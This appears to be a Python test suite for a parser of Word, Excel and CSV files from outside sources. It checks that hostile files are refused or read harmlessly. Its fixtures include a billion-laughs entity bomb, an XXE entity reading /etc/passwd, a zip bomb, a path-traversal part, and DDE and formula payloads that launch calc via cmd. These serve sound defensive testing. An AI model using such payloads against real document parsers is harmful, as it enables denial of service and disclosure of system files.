"""Office files from other hands: refused with a clear reason or read without harm, whatever they hold."""

from __future__ import annotations

import io
import resource
import subprocess
import sys
import zipfile
from collections.abc import Mapping
from pathlib import Path

import docx
import pytest
from comments_workshop import saved, sheet, word_table

from builder.office import MOST_BYTES, OfficeProblem, open_office, read_bytes
from builder.office.delimited import read_csv
from builder.office.document import marked, tables
from builder.office.workbook import sheets

TITLES = ("章条编号", "意见内容")


def changed(data: bytes, parts: Mapping[str, bytes | None] = {}, *, replace: Mapping[bytes, bytes] = {}) -> bytes:
    """Give a package with parts replaced, added or taken away, and words replaced in every part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name)
            for old, new in replace.items():
                content = content.replace(old, new)
            if name not in parts:
                target.writestr(name, content)
        for name, part in parts.items():
            if part is not None:
                target.writestr(name, part)
    return buffer.getvalue()


WORD = word_table(TITLES, [("4.1", "意见")])
SHEET = sheet([TITLES, ("4.1", "意见")])
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
DOCUMENT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'
ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
LAUGHS = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e0 "haha">{ENTITIES}]>' + DOCUMENT.format("<w:p><w:r><w:t>&e11;</w:t></w:r></w:p>")
READS_A_FILE = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + DOCUMENT.format("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>")


def read_whole(data: bytes) -> None:
    """Open a file and read all that is read of such files."""
    office = open_office(data)
    if office.kind == "sheet":
        sheets(office)
    else:
        tables(office)
        marked(office)


def bomb() -> bytes:
    """Give a workbook of some kilobytes whose sheet unpacks to 64 MiB."""
    buffer = io.BytesIO(changed(SHEET, {"xl/worksheets/sheet1.xml": None}))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
        for _ in range(64):
            part.write(bytes(1024 * 1024))
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b" \n", "空的"),
        ("章条编号,意见内容".encode("gbk"), "纯文本"),
        (WORD[: len(WORD) // 2], "损坏"),
        (b"PK\x03\x04" + bytes(100), "损坏"),
        (changed(WORD, {"word/document.xml": b"<w:document"}), "损坏"),
        (changed(WORD, {"word/document.xml": (DOCUMENT.format("<w:x>" * 5000 + "</w:x>" * 5000)).encode()}), "损坏"),
        (OLE, "旧格式"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "密码"),
        (b"%PDF-1.7\n", "PDF"),
        (b"{\\rtf1 x}", "RTF"),
        ("<html><table></table></html>".encode(), "网页"),
        (changed(WORD, {"[Content_Types].xml": None}), "压缩包"),
        (changed(WORD, {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}), "OpenDocument"),
        (changed(WORD, {"word/vbaProject.bin": b"x"}), "宏"),
        (changed(WORD, replace={b"wordprocessingml.document.main": b"wordprocessingml.document.macroEnabled.main"}), "宏"),
        (changed(SHEET, {"xl/macrosheets/sheet1.xml": b"<x/>"}), "宏"),
        (changed(WORD, replace={b"wordprocessingml.document.main": b"presentationml.slideshow.main"}), "不是Word文档或Excel"),
        (changed(WORD, {"word/document.xml": LAUGHS.encode()}), "恶意"),
        (changed(WORD, {"word/document.xml": LAUGHS.encode("utf-16")}), "恶意"),
        (changed(WORD, {"word/document.xml": READS_A_FILE.encode()}), "恶意"),
        (changed(WORD, {"word/document.xml": (DOCUMENT.format("<w:p/>" * 2_000_000)).encode()}), "过大"),
        (changed(WORD, {"word/_rels/document.xml.rels": b"<!DOCTYPE x><x/>"}), "恶意"),
        (bomb(), "过大"),
        (changed(WORD, {f"customXml/item{n}.xml": b"" for n in range(4200)}), "过大"),
    ],
    ids=range(24),
)  # fmt: skip
def test_what_is_no_sound_and_harmless_file_is_refused_with_its_reason(data: bytes, reason: str) -> None:
    with pytest.raises(OfficeProblem, match=reason) as caught:
        read_whole(data)
    assert caught.value.help
    assert caught.value.english


def test_refusing_takes_little_memory_and_time() -> None:
    """The bomb, the laughs and the crowd in a process that may not use much: CPU seconds and address space are held by the system."""
    script = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_AS, (1200 * 2**20, 1200 * 2**20))\n"
        "resource.setrlimit(resource.RLIMIT_CPU, (20, 20))\n"
        "from pathlib import Path\n"
        "from builder.office import OfficeProblem, open_office\n"
        "from builder.office.document import marked, tables\n"
        "from builder.office.workbook import sheets\n"
        "for name in sys.argv[1:]:\n"
        "    try:\n"
        "        office = open_office(Path(name).read_bytes())\n"
        "        tables(office) and marked(office) if office.kind == 'word' else sheets(office)\n"
        "    except OfficeProblem as problem:\n"
        "        print(problem)\n"
    )
    assert resource.getrlimit(resource.RLIMIT_CPU)
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        hostile = {
            "bomb.xlsx": bomb(),
            "laughs.docx": changed(WORD, {"word/document.xml": LAUGHS.encode()}),
            "crowd.docx": changed(WORD, {"word/document.xml": (DOCUMENT.format("<w:p/>" * 2_000_000)).encode()}),
        }
        for name, data in hostile.items():
            (Path(folder) / name).write_bytes(data)
        arguments = [sys.executable, "-c", script, *(str(Path(folder) / name) for name in hostile)]
        run = subprocess.run(arguments, capture_output=True, text=True, encoding="utf-8", cwd=Path(__file__).parent.parent, check=True)
    assert run.stdout.count("恶意文件") == 3, run.stdout + run.stderr


def test_a_change_inside_a_change_of_another_is_kept_apart_and_a_move_is_one() -> None:
    run, words = "<w:r><w:t>{}</w:t></w:r>", "<w:r><w:delText>{}</w:delText></w:r>"
    by = 'w:id="1" w:author="{}" w:date="2026-06-01T00:00:00Z"'
    first, second = by.format("甲"), by.format("乙")
    body = (
        f"<w:p>{run.format('登记')}<w:ins {first}>{run.format('每月')}<w:del {second}>{words.format('按季')}</w:del></w:ins></w:p>"
        f"<w:p><w:moveFrom {first}>{run.format('旧处')}</w:moveFrom></w:p><w:p><w:moveTo {first}>{run.format('旧处')}</w:moveTo></w:p>"
    )
    pieces = [paragraph.pieces for paragraph in marked(open_office(changed(WORD, {"word/document.xml": DOCUMENT.format(body).encode()}))).paragraphs]
    assert [(piece.kind, piece.text, piece.author, piece.within) for piece in pieces[0]] == [
        ("same", "登记", "", ""),
        ("added", "每月", "甲", ""),
        ("deleted", "按季", "乙", "甲"),
    ]
    assert [(piece.kind, piece.moved) for paragraph in pieces[1:] for piece in paragraph] == [("deleted", True), ("added", True)]


def test_a_file_that_is_too_large_or_not_there_is_refused(tmp_path: Path) -> None:
    large = tmp_path / "large.docx"
    with large.open("wb") as stream:
        stream.truncate(MOST_BYTES + 1)
    for path, reason in ((large, "32 MiB"), (tmp_path / "none.docx", "没有这个文件"), (tmp_path, "没有这个文件")):
        with pytest.raises(OfficeProblem, match=reason):
            read_bytes(path)


def test_links_that_lead_outside_are_named_and_never_followed() -> None:
    """The attached template would be fetched by Word; here it is a word in a file."""
    outside = b'<Relationship Id="rId900" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' + (
        b'Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>'
    )
    office = open_office(changed(WORD, replace={b"</Relationships>": outside}))
    assert [note for note, _ in office.notes] == ["文件引用了外部的模板、图片或数据，没有打开"]
    assert tables(office)[0].rows[1].cells == ("4.1", "意见")
    assert office.target(office.main, "rId900") is None


def test_a_part_outside_the_package_is_not_reached() -> None:
    office = open_office(changed(SHEET, replace={b"/xl/worksheets/sheet1.xml": b"../../../etc/passwd"}))
    assert sheets(office) == []


def test_a_formula_is_text_that_it_showed() -> None:
    cells = (
        b'<row r="3"><c r="A3" t="str"><f>cmd|\'/c calc\'!A1</f><v>4.2</v></c><c r="B3"><f>HYPERLINK("http://198.51.100.7")</f></c></row></sheetData>'
    )
    (grid,) = sheets(open_office(changed(SHEET, replace={b"</sheetData>": cells})))
    assert grid.rows[-1].cells == ("4.2",)
    assert grid.notes[0][0].startswith("2个单元格是公式")


def test_instructions_of_fields_are_not_text() -> None:
    document = docx.Document()
    table = document.add_table(rows=1, cols=1)
    paragraph = table.rows[0].cells[0].paragraphs[0]
    paragraph.add_run("前")
    for kind, text in (
        ("begin", ""),
        ("", ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
        ("separate", ""),
        ("result", "中"),
        ("end", ""),
    ):
        run = paragraph.add_run("中" if kind == "result" else "")
        if kind == "":
            run._r.append(run._r.makeelement(docx.oxml.ns.qn("w:instrText"), {}))
            run._r[-1].text = text
        elif kind != "result":
            run._r.append(run._r.makeelement(docx.oxml.ns.qn("w:fldChar"), {docx.oxml.ns.qn("w:fldCharType"): kind}))
    paragraph.add_run("后")
    assert tables(open_office(saved(document)))[0].rows[0].cells == ("前中后",)


def test_merged_cells_and_rows_of_a_hostile_size_are_cut_short() -> None:
    merges = b"</sheetData><mergeCells>" + b'<mergeCell ref="A1:A1048576"/>' * 3000 + b"</mergeCells>"
    rows = b"".join(b'<row r="%d"><c r="B%d"><v>1</v></c></row>' % (n, n) for n in range(3, 20_000)) + merges
    (grid,) = sheets(open_office(changed(SHEET, replace={b"</sheetData>": rows})))
    assert len(grid.rows) == 19_999
    far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    assert len(sheets(open_office(changed(SHEET, replace={b"</sheetData>": far})))[0].rows) == 2


def test_a_table_without_end_is_refused_before_it_is_read() -> None:
    with pytest.raises(OfficeProblem, match="超过10000行"):
        read_csv(",".join(TITLES).encode() + b"\n4.1,x" * 10_001)


def test_what_stands_behind_the_last_row_that_is_read_is_not_even_decoded() -> None:
    with pytest.raises(OfficeProblem, match="超过10000行"):
        read_csv(",".join(TITLES).encode() + b"\n4.1,x" * 20_000 + b"\xff" * 100_000)


@pytest.mark.parametrize("data", [b"\x00\x01\x02" * 50, b"\xff" * 50, b'a,"' + b"x" * 200_000])
def test_what_is_no_text_is_no_csv(data: bytes) -> None:
    with pytest.raises(OfficeProblem, match=r"编码|表格"):
        read_csv(data)


def test_strict_documents_are_read_as_well() -> None:
    strict = {
        b"http://schemas.openxmlformats.org/wordprocessingml/2006/main": b"http://purl.oclc.org/ooxml/wordprocessingml/main",
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships": b"http://purl.oclc.org/ooxml/officeDocument/relationships",
    }
    assert tables(open_office(changed(WORD, replace=strict)))[0].rows[1].cells == ("4.1", "意见")
